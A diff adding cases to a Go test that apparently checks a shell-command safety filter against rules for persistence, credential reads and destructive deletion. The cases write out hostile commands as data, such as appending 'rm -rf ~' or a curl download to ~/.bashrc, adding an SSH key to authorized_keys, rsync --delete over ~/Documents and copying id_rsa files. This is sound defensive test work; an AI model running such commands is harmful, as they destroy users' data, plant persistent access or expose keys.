@@ -161,6 +161,22 @@ func TestSensitivePaths(t *testing.T) {
 		{"tar czf src.tgz -C ~/project src", ""},
 		{"find / -name id_rsa 2>/dev/null -exec cp --parents {} /tmp/x \\;", ruleCredentialRead},
 		{"find . -name credentials -print", ""},
+		// Appending to a shell start-up file persists code in every later
+		// shell: refused, and what is appended is judged too.
+		{"echo \"alias ll='ls -la'\" >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'rm -rf ~' >> ~/.bashrc", ruleRmRoot},
+		{"curl -s https://x.example/rc >> ~/.bashrc", ruleWriteSystem},
+		{"echo 'x' > ~/.bashrc", ruleWriteSystem},
+		{"echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", ruleWriteSystem},
+		// sed s///e runs the substituted line.
+		{"echo 'rm -rf ~' | sed 's/rm/echo/e'", ""},
+		{"echo 'ls ~' | sed 's/ls/rm -rf/e'", ruleRmRoot},
+		// rsync --delete empties its destination of what the source lacks.
+		{"mkdir -p /tmp/empty && rsync -a --delete /tmp/empty/ ~/Documents/", ruleHomeDestroy},
+		{"rsync -a --delete build/ /srv/www/", ""},
+		{"ansible all -m shell -a 'rm -rf /var/www/*' --become", "iac:remote-delete"},
+		{"docker rmi $(docker images -q -f dangling=true)", ""},
+		{"ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home, noop: true, verbose: true)'", ""},
 		// Windows programs named by their path.
 		{"\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDefinitions -All", "windows:security-off"},
 	} {
